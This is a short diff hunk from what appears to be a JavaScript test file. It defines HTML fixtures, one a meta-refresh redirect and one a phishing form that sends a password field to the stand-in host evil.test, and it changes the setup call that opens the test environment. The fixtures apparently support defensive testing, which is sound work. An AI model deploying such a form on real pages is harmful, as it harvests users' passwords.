@@ -18,7 +18,7 @@ const redirect = `${html}<meta http-equiv="refresh" content="0;url=https://elsew
 const phish = `${html}<form action="https://evil.test/x"><input type="password" name="p"></form>`
 
 beforeEach(async () => {
-  h = await openTestHouse({ REQUESTS_PER_MINUTE: '0' })
+  h = await openTestHouse()
   ann = await h.person('ann')
 })
 afterEach(() => h.close())
